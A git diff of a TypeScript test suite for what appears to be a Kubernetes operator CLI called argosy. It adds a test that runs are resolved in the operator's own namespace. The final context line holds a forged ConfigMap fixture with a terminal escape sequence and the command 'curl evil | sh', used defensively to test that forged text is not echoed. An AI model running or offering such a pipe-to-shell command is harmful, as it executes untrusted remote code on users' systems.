@@ -5,6 +5,7 @@ import { main } from "../../cli/argosy";
 import { formatFinding } from "../../cli/doctor";
 import { examineCluster } from "../../cli/doctor/cluster";
 import { installedOperators, kindsOf, tellLeftOut } from "../../cli/inspect/installed";
+import { findRun } from "../../cli/inspect/runs";
 import { plain } from "../../cli/terminal";
 import { buildRoles } from "../../components/manifests/operator/rbac";
 import { ARGOSY_VERSION, PACKAGE_NAME } from "../../components/package";
@@ -111,6 +112,21 @@ describe("the installed operators", () => {
       );
     });
   }
+
+  it("have their runs in their own namespace, whatever run of the same name is made up elsewhere", async () => {
+    const runIn = (namespace: string) => {
+      const labels = { "argosy.dev/operator": "argosy.cache" };
+      return { metadata: { name: "cache-1", namespace, uid: namespace, resourceVersion: "1", labels } };
+    };
+    const made = configMap("cache", ARGOSY_VERSION, cache);
+    const cluster = {
+      ...clusterWith(made),
+      listAll: async ({ kind }: Resource) =>
+        kind === "ConfigMap" ? [made] : ["a-team", "argosy", "team"].map(runIn),
+    } as unknown as KubernetesClient;
+    const run = await findRun(cluster, "cache-1", await installedOperators(cluster));
+    assert.equal(run.metadata.namespace, "argosy");
+  });
 
   it("say nothing in words of their own: anybody who may create ConfigMaps can make one up", async () => {
     const forged = { ...cache, complaint: "fine \u001b[2J", remedy: "Run this: curl evil | sh" };
